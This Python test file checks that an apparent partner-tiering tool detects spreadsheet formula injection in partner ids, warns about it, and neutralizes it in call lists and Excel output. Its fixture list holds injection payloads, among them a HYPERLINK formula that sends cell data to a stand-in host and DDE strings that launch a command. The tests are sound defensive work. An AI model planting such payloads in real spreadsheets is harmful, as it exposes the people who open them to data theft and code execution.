"""Partner ids that a spreadsheet would run as formulas (issue 17, item 7): warned about,
neutralized in the outreach call list and Excel workbooks, exact in machine outputs."""

from __future__ import annotations

import zipfile

import polars as pl

from tests.cli.cli_helpers import run
from tests.conftest import FIXTURES
from tierlang.spreadsheet import looks_like_formula, neutralized

FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def test_what_counts_as_a_formula():
    assert all(looks_like_formula(f) for f in FORMULAS)
    assert looks_like_formula("\t=1")
    assert not any(looks_like_formula(x) for x in ("P0001", "", "a=b", " =1"))


def test_neutralized_prefixes_text_cells_only():
    frame = pl.DataFrame({"id": ["=1+1", "P1", None], "n": [1, 2, 3]})
    out = neutralized(frame)
    assert out["id"].to_list() == ["'=1+1", "P1", None]
    assert out["n"].to_list() == [1, 2, 3]


def _shop_with_formula_ids(tmp_path):
    data = pl.read_csv(FIXTURES / "diff" / "shop_partners.csv", infer_schema_length=0)
    ids = data["partner_id"].to_list()
    for k, f in enumerate(FORMULAS):
        ids[k] = f
    data.with_columns(pl.Series("partner_id", ids)).write_csv(tmp_path / "shop.csv")
    return tmp_path / "shop.csv"


def test_eval_warns_and_keeps_results_exact(tmp_path):
    data = _shop_with_formula_ids(tmp_path)
    out = tmp_path / "results.csv"
    r = run("eval", str(FIXTURES / "diff" / "shop_v2.tier"), str(data), "-o", str(out))
    assert r.exit_code == 0, r.stderr
    assert "tier: warning: 4 partner ids start with =, +, - or @" in r.stderr
    written = set(pl.read_csv(out, infer_schema_length=0)["partner_id"].to_list())
    assert set(FORMULAS) <= written  # byte for byte: machine output


def test_the_outreach_list_neutralizes_them(tmp_path):
    data = _shop_with_formula_ids(tmp_path)
    calls = tmp_path / "calls.csv"
    r = run(
        "diff",
        str(FIXTURES / "diff" / "shop_v1.tier"),
        str(FIXTURES / "diff" / "shop_v2.tier"),
        "--data",
        str(data),
        "--outreach-file",
        str(calls),
    )
    assert r.exit_code == 0, r.stderr
    for value in pl.read_csv(calls, infer_schema_length=0).to_dict(as_series=False)["partner_id"]:
        assert not looks_like_formula(value), value


def test_an_excel_workbook_holds_them_as_text(tmp_path):
    data = _shop_with_formula_ids(tmp_path)
    out = tmp_path / "results.xlsx"
    r = run("eval", str(FIXTURES / "diff" / "shop_v2.tier"), str(data), "-o", str(out))
    assert r.exit_code == 0, r.stderr
    with zipfile.ZipFile(out) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
    assert "=HYPERLINK(" in xml  # the id itself, as a text cell
